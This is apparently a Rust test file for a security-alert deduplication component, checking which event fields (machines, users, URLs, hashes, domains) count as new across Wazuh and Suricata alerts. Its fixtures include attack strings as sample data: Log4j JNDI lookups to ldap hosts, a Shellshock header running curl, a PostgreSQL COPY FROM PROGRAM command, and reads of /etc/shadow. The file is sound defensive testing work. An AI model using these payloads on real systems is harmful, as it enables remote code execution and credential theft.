//! Which machines, names and files an event reached.

use serde_json::{Value, json};

use super::{assert_differ, assert_fold, decoded, event, field, folds, of, pair, security, sysmon};

#[test]
fn the_same_on_another_machine_behind_one_agent_is_news() {
    let computer = "/data/win/system/computer";
    for alert in [
        security(
            4624,
            json!({"targetUserName": "admin", "ipAddress": "10.9.9.9", "logonType": "3"}),
        ),
        security(1102, json!({"x": "y"})),
        sysmon(1, json!({"image": r"C:\\a.exe", "commandLine": "a.exe -enc AAAA"})),
        sysmon(18, json!({"image": "System", "pipeName": r"\\PSEXESVC"})),
    ] {
        let [one, other] = pair(&alert, computer, [json!("DC1.corp.example"), json!("FS1.corp.example")]);
        assert_eq!(
            of(&one).key,
            of(&other).key,
            "a storm over machines stays in one window: {alert}"
        );
        assert!(
            of(&other)
                .distinct
                .contains(&("machine", "fs1.corp.example".to_owned()))
        );
        assert_fold(&alert, computer, "DC1.corp.example", "dc1.CORP.example.");
    }
    let relayed = |host: &str, line: &str, groups: Value| json!({"rule": {"id": "1", "groups": groups}, "agent": {"id": "000"}, "location": "/var/log/remote.log", "predecoder": {"hostname": host, "program_name": "sshd"}, "full_log": line, "data": {"srcip": "203.0.113.5", "dstuser": "root"}});
    for groups in [json!(["authentication_success"]), json!([])] {
        let one = relayed("web01", "Nov 29 04:00:00 web01 sshd[1]: Accepted", groups.clone());
        assert!(folds(
            &one,
            &relayed("web01", "Nov 29 04:00:09 web01 sshd[2]: Accepted", groups.clone())
        ));
        assert!(!folds(
            &one,
            &relayed("web02", "Nov 29 04:00:00 web02 sshd[1]: Accepted", groups)
        ));
    }
    let sent = |place: &str| json!({"rule": {"id": "1", "groups": ["syslog"]}, "agent": {"id": "000"}, "location": place, "full_log": "%LINK-3-UPDOWN: Interface Gi0/1, changed state to down"});
    assert!(folds(&sent("10.20.0.1"), &sent("10.20.0.1")));
    assert!(!folds(&sent("10.20.0.1"), &sent("10.20.0.2")));
    let firewall = decoded(
        "fortigate-firewall-v5",
        json!({"srcip": "203.0.113.5", "dstuser": "admin", "devname": "FW1"}),
    );
    assert_differ(&firewall, "/data/devname", "FW1", "FW2");
}

#[test]
fn a_machine_that_a_field_names_is_news_in_every_family() {
    let logon = json!({"event": "login", "user": "root", "srcip": "203.0.113.9"});
    let started = json!({"CommandLine": "powershell.exe -enc AAAA", "UserName": "SYSTEM"});
    let other = json!({"event": "x"});
    for (groups, data) in [
        (json!(["authentication_success"]), logon),
        (json!([]), started),
        (json!([]), other),
    ] {
        for name in [
            "hostname",
            "host",
            "computer",
            "ComputerName",
            "deviceName",
            "computerDnsName",
            "agentComputerName",
            "endpoint",
            "server",
            "server_name",
            "deviceId",
            "aid",
            "hostIdentifier",
            "nas_identifier",
        ] {
            let mut alert = decoded("json", data.clone());
            alert["rule"]["groups"] = groups.clone();
            alert["data"]["event"] = json!({name: "x"});
            let pointer = format!("/data/event/{name}");
            assert_differ(&alert, &pointer, "web", "db");
            let [web, db] = pair(&alert, &pointer, [json!("web"), json!("db")]);
            assert!(of(&db).distinct.contains(&("machine", "db".to_owned())), "{name}");
            if of(&web).parts.iter().all(|(part, _)| *part != "subject") {
                assert_fold(&alert, &pointer, "web", "WEB.");
            }
        }
    }
    // Whoever came is no machine that the event is of, and containers are called what was made up for them.
    for (name, one, other) in [
        ("client_hostname", "a", "b"),
        ("hostname", "7d9f8b6c5a12", "1d2f3b4c5a67"),
        ("device", "/dev/pts/1", "/dev/pts/2"),
    ] {
        let machines = |text: &str| {
            let mut alert = decoded("json", json!({"event": "x"}));
            alert["data"][name] = json!(text);
            let distinct = of(&alert).distinct;
            distinct.into_iter().find(|(kind, _)| *kind == "machine")
        };
        assert_eq!((machines(one), machines(other)), (None, None), "{name}");
    }
}

#[test]
fn whom_and_what_an_event_of_no_family_reached_is_news() {
    let sensor = |data: Value| {
        let mut all = json!({"src_ip": "10.0.0.9", "src_port": "40001", "dest_ip": "203.0.113.9", "dest_port": "443", "flow_id": "17",
            "alert": {"signature_id": "2027", "signature": "ET MALWARE Beacon"}});
        for (name, value) in data.as_object().unwrap() {
            all[name] = value.clone();
        }
        json!({"rule": {"id": "86601", "groups": ["ids", "suricata"]}, "agent": {"id": "1"}, "decoder": {"name": "json"}, "data": all})
    };
    let beacon = sensor(json!({}));
    for (other, news) in [
        (json!({"dest_ip": "198.51.100.7"}), ("destination", "198.51.100.7 443")),
        (json!({"dest_port": "4444"}), ("destination", "203.0.113.9 4444")),
        (
            json!({"dns": {"query": [{"rrname": "C2.evil.example"}]}}),
            ("domain", "c2.evil.example"),
        ),
        (json!({"http": {"url": "/gate.php"}}), ("url", "/gate.php")),
        (json!({"fileinfo": {"filename": "a.exe"}}), ("file", "a.exe")),
        (
            json!({"fileinfo": {"sha256": "AB".repeat(32)}}),
            ("hash", &"ab".repeat(32)),
        ),
    ] {
        let other = sensor(other);
        assert_eq!(of(&beacon).key, of(&other).key, "a scan stays in one window");
        let news = (news.0, news.1.to_owned());
        assert!(
            of(&other).distinct.contains(&news) && !of(&beacon).distinct.contains(&news),
            "{:?}",
            of(&other)
        );
    }
    assert!(folds(&beacon, &sensor(json!({"src_port": "40002", "flow_id": "18"}))));
    // An answer goes to a port that was given out for it.
    let answer = |port: &str| sensor(json!({"dest_port": port, "src_port": "80"}));
    assert!(folds(&answer("51234"), &answer("51235")));

    let transfer = event(
        59,
        "x",
        json!({"name": "Update", "url": "http://dl.corp.example/a", "id": "{5770385f-c22a-43e0-bf4c-06f5698ffbd9}"}),
    );
    assert_differ(
        &transfer,
        &field("url"),
        "http://dl.corp.example/a",
        "http://203.0.113.66/evil.exe",
    );
    assert_fold(
        &transfer,
        &field("url"),
        "http://dl.corp.example/a?t=1796000000",
        "http://dl.corp.example/a?t=1796000900",
    );
    let blocked = event(
        8004,
        "x",
        json!({"policyName": "EXE", "filePath": r"%OSDRIVE%\\a.exe", "fileHash": "aa".repeat(32)}),
    );
    assert_differ(
        &blocked,
        &field("filePath"),
        r"%OSDRIVE%\\a.exe",
        r"%OSDRIVE%\\MIMIKATZ.EXE",
    );
    assert_differ(&blocked, &field("fileHash"), &"aa".repeat(32), &"bb".repeat(32));
    let looked_up = event(1014, "x", json!({"queryName": "a.corp.example"}));
    assert_differ(&looked_up, &field("queryName"), "a.corp.example", "c2.evil.example");
    let known = decoded(
        "json",
        json!({"virustotal": {"source": {"file": "/srv/x.pdf", "md5": "aa".repeat(16), "sha1": "aa".repeat(20)}, "description": "found"}}),
    );
    assert_differ(
        &known,
        "/data/virustotal/source/sha1",
        &"aa".repeat(20),
        &"bb".repeat(20),
    );
    let row = decoded(
        "json",
        json!({"osquery": {"name": "hash", "columns": {"directory": "/usr/bin", "sha256": "aa".repeat(32)}}}),
    );
    assert_differ(&row, "/data/osquery/columns/sha256", &"aa".repeat(32), &"bb".repeat(32));
    // What differs only behind the longest text that is kept is news too.
    let long = format!("http://dl.corp.example/{}", "a".repeat(300));
    assert_differ(&transfer, &field("url"), &format!("{long}1"), &format!("{long}2"));
}

#[test]
fn whether_a_sensor_let_a_request_pass_and_how_it_was_answered_is_news() {
    let seen = decoded(
        "json",
        json!({"src_ip": "203.0.113.9", "dest_ip": "10.0.0.1", "alert": {"action": "blocked", "signature_id": "2034647", "signature": "ET EXPLOIT x"},
            "http": {"http_method": "GET", "status": "404", "hostname": "a.example"}}),
    );
    assert_differ(&seen, "/data/alert/action", "blocked", "allowed");
    assert_differ(&seen, "/data/http/http_method", "GET", "POST");
    assert_differ(&seen, "/data/http/status", "404", "200");
    assert_fold(&seen, "/data/http/status", "404", "403");
}

#[test]
fn with_whom_and_about_what_a_conversation_was_that_a_signature_met_is_news() {
    let seen = decoded(
        "json",
        json!({"src_ip": "203.0.113.9", "dest_ip": "10.0.0.1", "flow_id": 1_796_000_000_123_u64, "alert": {"signature_id": "2034647", "signature": "ET x"},
            "tls": {"sni": "x", "subject": "x", "ja3": {"hash": "x"}, "serial": "x"}, "smtp": {"mail_from": "x", "rcpt_to": ["x"]}, "krb5": {"cname": "x"},
            "ftp": {"command_data": "x"}, "rdp": {"cookie": "x"}, "smb": {"share": "x", "session_id": 17}}),
    );
    for (name, one, other) in [
        ("tls/sni", "a.example", "b.example"),
        ("tls/subject", "CN=a.example", "CN=b.example"),
        (
            "tls/ja3/hash",
            "e7d705a3286e19ea42f587b344ee6865",
            "6734f37431670b3ab4292b8f60f29984",
        ),
        ("smtp/mail_from", "<a@evil.example>", "<b@evil.example>"),
        ("smtp/rcpt_to/0", "<bob@corp.example>", "<eve@corp.example>"),
        ("krb5/cname", "bob", "eve"),
        ("rdp/cookie", "bob", "eve"),
        ("ftp/command_data", "/etc/passwd", "/etc/shadow"),
        ("smb/share", r"\\\\DC1\\ADMIN$", r"\\\\DC1\\C$"),
    ] {
        let pointer = format!("/data/{name}");
        assert_differ(&seen, &pointer, one, other);
        let [one, other] = pair(&seen, &pointer, [json!(one), json!(other)]);
        assert_eq!(of(&one).key, of(&other).key, "many are bounded in one window");
    }
    assert_fold(&seen, "/data/tls/serial", "00:AA", "00:BB");
    for command in ["PORT", "EPRT"] {
        let mut opened = seen.clone();
        opened["data"]["ftp"]["command"] = json!(command);
        assert_fold(&opened, "/data/ftp/command_data", "10,0,0,1,4,5", "10,0,0,1,200,17");
    }
    let kinds = |name: &str| {
        let (object, field) = name.split_once('/').unwrap();
        let mut seen = decoded("json", json!({"alert": {"signature_id": "1"}}));
        seen["data"][object] = json!({field: "x"});
        let distinct = of(&seen).distinct;
        distinct.iter().map(|(kind, _)| *kind).collect::<Vec<_>>()
    };
    for made_up in ["tls/subject", "smtp/helo", "rdp/cookie", "snmp/community"] {
        assert_eq!(
            kinds(made_up),
            ["conversation"],
            "whoever varies them in turn brings no more"
        );
    }
    for about in ["smtp/rcpt_to", "krb5/cname", "smb/share"] {
        assert_eq!(
            kinds(about),
            ["victim"],
            "what is made up does not use up what is remembered of them"
        );
    }
    assert_fold(&seen, "/data/smb/session_id", "17", "18");
    assert_fold(&seen, "/data/flow_id", "1796000000123", "1796000000999");
}

/// An alert of a sensor's signature, with what else it says.
fn seen(data: &Value) -> Value {
    let mut alert = decoded(
        "json",
        json!({"event_type": "alert", "src_ip": "10.0.0.2", "src_port": 40001, "dest_ip": "10.0.0.5", "dest_port": 80, "flow_id": 17,
            "alert": {"signature_id": 2_034_647, "signature": "ET EXPLOIT Log4j", "action": "allowed"}}),
    );
    for (name, value) in data.as_object().unwrap() {
        alert["data"][name] = value.clone();
    }
    // Wazuh has taken the line apart.
    alert["full_log"] = json!(alert["data"].to_string());
    alert
}

fn http(name: &str, text: &str) -> Value {
    json!({"http": {"hostname": "a", "url": "/", "http_method": "GET", name: text}})
}

#[test]
fn who_stands_behind_a_proxy_and_what_was_called_and_sent_in_a_conversation_is_news() {
    let bound = |uuid: &str, opnum: u32| json!({"dcerpc": {"interfaces": [{"uuid": uuid, "version": "1.0"}], "req": {"opnum": opnum}, "call_id": opnum}});
    let request = |opnum: u32, call: u32| json!({"smb": {"session_id": call, "dcerpc": {"request": "REQUEST", "opnum": opnum, "call_id": call}}});
    let query = |text: &str| json!({"pgsql": {"request": {"simple_query": text}}});
    let jndi = |host: &str| http("http_user_agent", &format!("${{jndi:ldap://{host}/a}}"));
    for (one, other) in [
        (json!({"xff": "198.51.100.1"}), json!({"xff": "203.0.113.77"})),
        (
            http("http_user_agent", "x ${${lower:j}ndi:ldap://198.51.100.1/a} 1"),
            http("http_user_agent", "x ${${lower:j}ndi:ldap://203.0.113.77/a} 1"),
        ),
        (
            http("http_user_agent", "${x} ${jndi:ldap://198.51.100.1/a"),
            http("http_user_agent", "${x} ${jndi:ldap://203.0.113.77/a"),
        ),
        (http("xff", "198.51.100.1"), http("xff", "203.0.113.77")),
        (
            json!({"xff": "198.51.100.1, 10.0.0.9"}),
            json!({"xff": "203.0.113.77, 10.0.0.9"}),
        ),
        (
            json!({"smb": {"ntlmssp": {"domain": "C", "user": "guest"}}}),
            json!({"smb": {"ntlmssp": {"domain": "C", "user": "administrator"}}}),
        ),
        (
            json!({"smb": {"named_pipe": r"\\samr"}}),
            json!({"smb": {"named_pipe": r"\\svcctl"}}),
        ),
        (
            json!({"email": {"from": "a@one.example", "to": ["bob@c.example"]}}),
            json!({"email": {"from": "z@two.example", "to": ["bob@c.example"]}}),
        ),
        (
            json!({"email": {"to": ["bob@c.example"], "attachment": ["a.pdf"]}}),
            json!({"email": {"to": ["bob@c.example"], "attachment": ["pay.exe"]}}),
        ),
        (jndi("198.51.100.1"), jndi("203.0.113.77")),
        (jndi("c2-01.example"), jndi("c2-02.example")),
        (jndi("203.0.113.9:1389"), jndi("203.0.113.9:4444")),
        (
            http("http_refer", "() { :; }; curl 198.51.100.1"),
            http("http_refer", "() { :; }; curl 203.0.113.77"),
        ),
        (query("select version"), query("COPY x FROM PROGRAM 'id'")),
        (request(15, 1), request(12, 1)),
        (
            bound("12345778-1234-abcd-ef00-0123456789ac", 15),
            bound("367abb81-9844-35f1-ad32-98f038001003", 15),
        ),
    ] {
        let [one, other] = [seen(&one), seen(&other)];
        assert_eq!(of(&one).key, of(&other).key, "many are bounded in one window");
        assert!(folds(&one, &one), "{one}");
        assert!(!folds(&one, &other), "{one} {other}");
    }
    for (one, other) in [
        (http("http_user_agent", "curl/8.1"), http("http_user_agent", "curl/8.2")),
        (http("http_user_agent", "x"), http("http_refer", "https://a.example/17")),
        (jndi("c2-01.example/3f9a1c0d"), jndi("c2-01.example/a17e00b2")),
        (
            http("http_refer", "https://a.example/?u=${GUID}&c=ab"),
            http("http_refer", "https://a.example/?u=${GUID}&c=xy"),
        ),
        (http("http_refer", "x() { a"), http("http_refer", "x() { b")),
        (
            http("http_response_body_printable", "<script>$(function() {a ${b}"),
            http("http_response_body_printable", "<script>$(function() {c ${d}"),
        ),
        (
            json!({"xff": "198.51.100.1, 203.0.113.7"}),
            json!({"xff": "198.51.100.1, 203.0.113.8"}),
        ),
        (
            query("SELECT * FROM t WHERE id = 17"),
            query("select * from t where id = 18"),
        ),
        (request(15, 1), request(15, 2)),
        (
            json!({"smb": {"named_pipe": "samr", "session_id": 17, "tree_id": 1}}),
            json!({"smb": {"named_pipe": "samr", "session_id": 18, "tree_id": 5}}),
        ),
        (
            json!({"xff": "198.51.100.1", "flow_id": 18, "src_port": 40002}),
            json!({"xff": "198.51.100.1", "flow_id": 19, "src_port": 40003}),
        ),
    ] {
        let [one, other] = [seen(&one), seen(&other)];
        assert!(folds(&one, &other), "{:?} {:?}", of(&one), of(&other));
    }
}

#[test]
fn one_alert_with_many_values_does_not_use_up_what_a_window_remembers() {
    let files: Vec<String> = (0..20).map(|n| format!("file:_C:\\\\a{n}.exe")).collect();
    let alert = event(1116, "x", json!({"path": files.join("; ")}));
    let count = of(&alert).distinct.iter().filter(|(name, _)| *name == "file").count();
    assert_eq!(count, 5, "four, and one for the others");
    let users = |last: &str| {
        let users = (0..17).map(|n| format!("u{n}")).chain([last.to_owned()]);
        let items: Vec<_> = users.map(|user| json!({"srcuser": user})).collect();
        decoded("json", json!({"event": "shared", "items": items}))
    };
    let one = users("u17");
    let count = of(&one).distinct.iter().filter(|(name, _)| *name == "user").count();
    assert_eq!(count, 5);
    assert!(folds(&one, &users("u17")));
    assert!(!folds(&one, &users("root")));
    assert!(!folds(
        &one,
        &decoded("json", json!({"event": "shared", "items": [{"srcuser": "root"}]}))
    ));
}

#[test]
fn what_comes_behind_the_first_few_is_news_too() {
    let urls = |last: &str| {
        let urls = ["a", "b", "c", "d", last].map(|name| json!({"url": format!("http://{name}.example/")}));
        decoded("json", json!({"event": "opened", "items": urls}))
    };
    assert!(folds(&urls("e"), &urls("e")));
    assert!(!folds(&urls("e"), &urls("evil")));
    let mut request = decoded(
        "web-accesslog",
        json!({"srcip": "10.0.0.2", "client_ip": "203.0.113.5", "url": "/a", "id": "404"}),
    );
    assert_differ(&request, "/data/client_ip", "203.0.113.5", "198.51.100.7");
    assert_fold(&request, "/data/client_ip", "203.0.113.5", "::ffff:203.0.113.5");
    request["decoder"]["name"] = json!("json");
    request["data"].as_object_mut().unwrap().remove("url");
    assert_differ(&request, "/data/client_ip", "203.0.113.5", "198.51.100.7");
    // A high port is passing only where it is answered.
    let reached = decoded(
        "json",
        json!({"event": "connected", "dstip": "203.0.113.5", "dstport": "49152", "srcport": "40001"}),
    );
    assert_differ(&reached, "/data/dstport", "49152", "50050");
    let acted = security(
        4719,
        json!({"subjectUserName": "bob", "subjectDomainName": "CORP", "categoryId": "%%8273"}),
    );
    assert_differ(&acted, &field("subjectDomainName"), "CORP", "EVIL");
    assert_fold(&acted, &field("subjectDomainName"), "CORP", "corp");
}

#[test]
fn a_storm_from_one_machine_stays_in_one_window_where_only_a_line_tells_of_it() {
    let denied = |source: &str, target: &str, port: &str| {
        let mut alert = decoded(
            "firewall",
            json!({"action": "deny", "srcip": source, "dstip": target, "dstport": "445", "srcport": port}),
        );
        alert["full_log"] = json!(format!(
            "Nov 29 04:00:01 fw kernel: DENY SRC={source} DST={target} SPT={port} DPT=445"
        ));
        alert
    };
    let one = denied("203.0.113.5", "10.0.0.1", "40001");
    assert!(folds(&one, &denied("203.0.113.5", "10.0.0.1", "40002")));
    for other in [
        denied("203.0.113.5", "10.0.0.2", "40001"),
        denied("198.51.100.7", "10.0.0.1", "40001"),
    ] {
        assert_eq!(of(&one).key, of(&other).key);
        assert!(!folds(&one, &other));
    }
    let other = |line: &str| {
        let mut alert = one.clone();
        alert["full_log"] = json!(line);
        alert
    };
    assert!(!folds(
        &one,
        &other("Nov 29 04:00:01 fw kernel: ACCEPT SRC=203.0.113.5 DST=10.0.0.1 SPT=40001 DPT=445")
    ));
}
